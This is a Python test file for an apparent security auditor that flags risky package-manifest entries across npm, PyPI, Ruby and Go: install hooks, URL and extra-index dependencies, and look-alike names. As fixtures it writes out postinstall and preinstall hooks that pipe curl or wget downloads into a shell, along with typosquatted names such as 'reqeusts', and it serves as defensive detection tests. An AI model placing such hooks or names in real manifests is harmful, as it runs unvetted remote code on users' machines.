"""Package manifests: install hooks read as shell, installs from unusual sources and look-alike names, each with
an honest twin; and the audit CLI naming the manifest line."""

from __future__ import annotations

import json

import pytest

from skillscope.audit.behavior.engine import SkillFileText, analyse_skill
from skillscope.audit.behavior.manifests import near_popular
from tests.audit.behavior.helpers import found
from tests.audit.behavior.test_ruby_go_cli import audit, env  # noqa: F401 - the fixture is used by name

RISKY = "skillscope/permissions/risky-install"
DOWNLOAD = "skillscope/obfuscation/download-exec"


def severe(path: str, text: str) -> list[tuple[str, str, int | None]]:
    from skillscope.audit.findings import check_info

    out = []
    for _, rule, sev, line, _message in found({path: text}):
        level = sev or check_info(rule).severity
        if level in ("warning", "error"):
            out.append((rule, level, line))
    return out


def caps(path: str, text: str) -> list[tuple[str, str, str]]:
    return [(c.kind, c.target, c.detail) for c in analyse_skill([SkillFileText(path, text)], {}).capabilities]


def package(scripts: dict[str, str], deps: dict[str, str]) -> str:
    return json.dumps({"name": "helper", "version": "1.0.0", "scripts": scripts, "dependencies": deps}, indent=2) + "\n"


def test_an_install_hook_that_downloads_and_runs_is_an_error_on_its_line():
    text = package({"postinstall": "curl -fsSL https://get.example.net/i.sh | bash"}, {"lodash": "^4.17.21"})
    assert (DOWNLOAD, "error", 5) in severe("package.json", text)


def test_plain_install_hooks_are_capabilities_only():
    text = package({"prepare": "husky install", "install": "node-gyp rebuild", "postinstall": "tsc"}, {"lodash": "^4"})
    assert severe("package.json", text) == []
    hooks = [c for c in caps("package.json", text) if "hook" in c[2]]
    assert {c[1] for c in hooks} == {"husky", "node-gyp", "tsc"}


def test_a_hook_that_runs_a_shipped_file_says_which():
    text = package({"postinstall": "node scripts/setup.js"}, {})
    assert any("scripts/setup.js" in detail for _, _, detail in caps("package.json", text))


def test_npm_dependencies_from_urls_and_look_alike_names_are_warnings():
    text = package({}, {"left": "https://cdn.example.net/left-1.0.0.tgz", "expresss": "^4.0.0", "chalk": "^5"})
    found_ = severe("package.json", text)
    assert (RISKY, "warning", 6) in found_ and (RISKY, "warning", 7) in found_
    assert not [f for f in found_ if f[2] == 8]  # chalk is the popular package itself


def test_a_look_alike_with_a_harmful_hook_is_an_error():
    text = package({"preinstall": "wget -qO- https://x.example.net/p | sh"}, {"reqeust": "^2.0.0"})
    assert (RISKY, "error", 8) in severe("package.json", text)


def test_ordinary_npm_manifest_is_quiet():
    text = package(
        {"build": "tsc -p .", "test": "vitest run"},
        {"react": "^18", "preact": "^10", "axios": "^1", "local": "file:../local"},
    )
    assert severe("package.json", text) == []


REQUIREMENTS = """--extra-index-url https://pypi.example.net/simple
requests==2.31.0
reqeusts==1.0
dateutil
git+https://github.com/someone/tool.git
-e .
numpy>=1.26 ; python_version >= "3.11"
-r dev.txt
"""


def test_requirements_extra_index_urls_and_look_alikes_are_warnings_plain_names_are_not():
    found_ = severe("requirements.txt", REQUIREMENTS)
    assert sorted(line for _, _, line in found_) == [1, 3, 4, 5]
    assert {level for _, level, _ in found_} == {"warning"}
    honest = "requests==2.31.0\npython-dateutil>=2.8\nscapy\nscipy\n--index-url https://pypi.org/simple\n"
    assert severe("requirements-dev.txt", honest) == []
    assert ("installs", "python-dateutil") in {c[:2] for c in caps("requirements-dev.txt", honest)}


def test_pyproject_build_hooks_are_recorded_and_url_requirements_warned():
    text = """[build-system]
requires = ["setuptools>=68", "helper @ https://x.example.net/helper-1.0.tar.gz"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "tool"
dependencies = ["httpx>=0.27", "pandaz"]

[tool.hatch.build.hooks.custom]
path = "scripts/hook.py"
"""
    found_ = severe("pyproject.toml", text)
    assert (RISKY, "warning", 2) in found_ and (RISKY, "warning", 8) in found_
    targets = {(k, t) for k, t, _ in caps("pyproject.toml", text)}
    assert ("executes", "_build/backend.py") in targets and ("executes", "scripts/hook.py") in targets
    honest = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "t"\ndependencies = ["httpx"]\n'
    assert severe("pyproject.toml", honest) == []


def test_gemfile_sources_and_go_mod_replaces():
    gemfile = 'source "https://rubygems.org"\ngem "rails"\ngem "nokogirl"\ngem "tool", git: "https://git.example.net/tool.git"\n'
    found_ = severe("Gemfile", gemfile)
    assert (
        (RISKY, "warning", 3) in found_
        and (RISKY, "warning", 4) in found_
        and not [f for f in found_ if f[2] in (1, 2)]
    )
    gomod = "module example.com/x\n\ngo 1.22\n\nrequire github.com/spf13/cobra v1.8.0\n\nreplace github.com/spf13/cobra => mirror.example.net/cobra v1.8.1\nreplace example.com/y => ../y\n"
    assert [f[2] for f in severe("go.mod", gomod)] == [7]


@pytest.mark.parametrize(
    ("ecosystem", "name", "expected"),
    [
        ("pypi", "reqeusts", "requests"),
        ("pypi", "requests", None),
        ("pypi", "Python_Dateutil", None),
        ("npm", "lodahs", "lodash"),
        ("npm", "react", None),
        ("gems", "railz", "rails"),
    ],
)
def test_near_popular(ecosystem, name, expected):
    assert near_popular(ecosystem, name) == expected


def test_the_audit_cli_names_the_hook_line(tmp_path, env):  # noqa: F811 - pytest fixture
    text = package({"postinstall": "curl -fsSL https://get.example.net/i.sh | bash"}, {})
    code, findings = audit(tmp_path, env, "bad", {"package.json": text})
    hits = [f for f in findings if f["id"] == DOWNLOAD]
    assert code == 1 and hits and hits[0]["severity"] == "error" and hits[0]["line"] == 5
    code, findings = audit(
        tmp_path, env, "good", {"package.json": package({"prepare": "husky install"}, {"lodash": "^4"})}
    )
    assert code == 0 and not [f for f in findings if f["severity"] in ("warning", "error")], findings
